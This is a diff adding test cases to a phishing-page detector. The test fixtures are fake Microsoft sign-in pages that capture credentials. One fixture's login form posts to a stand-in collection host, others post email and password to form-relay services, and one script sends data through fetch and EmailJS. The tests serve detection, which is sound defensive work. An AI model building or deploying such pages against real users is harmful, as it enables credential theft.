@@ -2,7 +2,7 @@ import { parseHTML } from 'linkedom';
 import { describe, expect, it } from 'vitest';
 import { analyseSavedPage } from '../../../scripts/lib/saved-page';
 import { buildPageSnapshot } from '../../../src/content/page-snapshot';
-import { analysePage, PageSnapshotSchema } from '../../../src/core/detection';
+import { analysePage, classifyUrl, PageSnapshotSchema } from '../../../src/core/detection';
 import { readPageSignals } from '../../../src/core/detection/page-signals';
 import { readableText } from '../../../src/core/detection/page-text';
 
@@ -245,6 +245,29 @@ describe('the page model', () => {
     expect(verdict(withBase, own).verdict).toBe('other');
   });
 
+  it('calls an organisation’s own MFA Server user portal its own page, not a copy posting elsewhere', () => {
+    const portal = page(
+      'Multi-Factor Authentication User Portal: User Log In',
+      `<form name="aspnetForm" method="post" action="./login.aspx"><img src="images/spacer.gif" alt="PhoneFactor">
+       <span>Version 8.0.1</span> <span>© 2018 Microsoft. All rights reserved.</span>
+       <h1>Multi-Factor Authentication User Log In</h1>
+       <label>Username</label><input name="ctl00$pageContent$txtUsername" type="text">
+       <label>Password</label><input name="ctl00$pageContent$txtPassword" type="password">
+       <div style="display:none">We've contacted you for multi-factor authentication. Please respond to continue.</div>
+       <input type="submit" value="Log In"></form>`,
+    );
+    const own = 'https://mfa.contoso.example/MultiFactorAuth/login.aspx';
+    expect(verdict(portal, own)).toEqual({
+      verdict: 'other',
+      codes: ['organisation-sign-in-page'],
+    });
+    const elsewhere = portal.replace(
+      'action="./login.aspx"',
+      'action="https://collect.example/p.php"',
+    );
+    expect(verdict(elsewhere, own).codes).not.toContain('organisation-sign-in-page');
+  });
+
   it('leaves AD FS alone', () => {
     const adfs = page(
       'Sign In',
@@ -454,6 +477,50 @@ describe('the page model', () => {
     expect(verdict(step).verdict).toBe('lookalike');
   });
 
+  it('flags Microsoft’s newer password step, its "Other ways to sign in" one of its phrases', () => {
+    const step = page(
+      '',
+      `<form action="../next.php" method="post"><img src="data:image/png;base64,AAAA">
+       <input type="text" name="email" readonly><h1>Enter password</h1>${PASSWORD}
+       <a href="#">Forgot password?</a><a href="#">Other ways to sign in</a><button>Sign in</button></form>
+       <footer><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></footer>`,
+    );
+    const url = 'https://mail-verify.example.net/webmail/outlook.html';
+    expect(readPageSignals(snapshot(step, url)).flowPhrases).toBe(1);
+    expect(verdict(step, url).verdict).toBe('lookalike');
+  });
+
+  it.each([
+    ['Formspark', 'https://submit-form.com/Qz4hTn8Rw'],
+    ['Getform', 'https://getform.io/f/0c1d2e3f'],
+    ['Basin', 'https://usebasin.com/f/a1b2c3d4e5f6'],
+  ])(
+    'names a form posting to %s as a relay, and flags a bare Office card posting there',
+    (service, action) => {
+      const card = page(
+        'Excel Online',
+        `<form method="post" action="${action}"><h1>Please log in with your correct email and password</h1>
+       ${EMAIL}${PASSWORD}<input type="submit" value="Continue"></form><small>&copy; 2026 Microsoft</small>`,
+      );
+      expect(readPageSignals(snapshot(card, 'https://docs.example.net/')).exfiltration).toEqual([
+        service,
+      ]);
+      expect(verdict(card, 'https://docs.example.net/').verdict).toBe('lookalike');
+    },
+  );
+
+  it('names a relay a script sends to (Formspark, EmailJS), never the code around it', () => {
+    const snap = snapshot(
+      page(
+        'x',
+        `<script>fetch("https://submit-form.com/SECRET1",{method:"POST"});emailjs.send("svc","tpl",{p:1});</script>${PASSWORD}`,
+      ),
+      'https://kit.example.net/',
+    );
+    expect(readPageSignals(snap).exfiltration).toEqual(['Formspark', 'EmailJS']);
+    expect(JSON.stringify(snap)).not.toContain('SECRET1');
+  });
+
   it.each([
     ['written backwards', '<h1 style="unicode-bidi:bidi-override;direction:rtl">tfosorciM</h1>'],
     ['drawn as SVG text', '<svg><text x="0" y="20">Microsoft</text></svg>'],
@@ -545,6 +612,43 @@ describe('the page model never flags', () => {
       expect(verdict(card, 'https://shop.example.net/login').verdict).toBe('lookalike');
     },
   );
+
+  it('a shared document offering Microsoft accounts to sign in with, and no other mail', () => {
+    const share = page(
+      'Contract_2026.pdf – Paperflow',
+      `<h1>Alex Morgan shared a document with you</h1><p>Sign in to view and sign it.</p>
+       <a href="/auth/google">Continue with Google</a><a href="/auth/microsoft">Continue with Microsoft</a>
+       <a href="/auth/microsoft">Log in with Office 365</a>
+       <form action="/subscribe"><p>Sign up for weekly Outlook tips</p>${EMAIL}<button>Subscribe</button></form>`,
+    );
+    expect(
+      readPageSignals(snapshot(share, 'https://sign.paperflow.example/d/7Hq2')).providerChooser,
+    ).toBe(false);
+    expect(verdict(share, 'https://sign.paperflow.example/d/7Hq2').verdict).toBe('other');
+  });
+
+  it('a library’s documentation on a free site named for a Microsoft product, asking for nothing', () => {
+    const docs = page(
+      'Getting started — O365 documentation',
+      `<form class="search" action="search.html" method="get"><input type="text" name="q"></form>
+       <h1>Getting started</h1><p>Connect to Microsoft Graph and the Office 365 APIs: authenticate, then read your mailbox.</p>`,
+    );
+    const url = 'https://o365.github.io/python-o365/latest/getting_started.html';
+    expect(classifyUrl(url).verdict).toBe('lookalike');
+    expect(verdict(docs, url).verdict).toBe('other');
+    // The same address with a sign-in form on it is judged on the form, with the address against it.
+    const card = page('Office 365', `<h1>Office 365</h1><p>Sign in</p>${EMAIL}${PASSWORD}`);
+    expect(verdict(card, url).verdict).toBe('lookalike');
+  });
+
+  it('a blog about Outlook whose contact box posts to a form service', () => {
+    const blog = page(
+      'How to set up Outlook on a new phone',
+      `<article><h1>How to set up Outlook on a new phone</h1><p>Open the Outlook app and add your Microsoft 365 account. Check the address bar says login.microsoftonline.com before you type your password.</p></article>
+       <aside><h2>Write to us</h2><form action="https://submit-form.com/Xk2pLmQ7" method="POST"><input type="text" name="name">${EMAIL}<textarea name="message"></textarea><button>Send</button></form></aside>`,
+    );
+    expect(verdict(blog, 'https://outlook-tips.example.dev/setup/').verdict).toBe('other');
+  });
 
   it('webmail that mentions Outlook', () => {
     const roundcube = page(
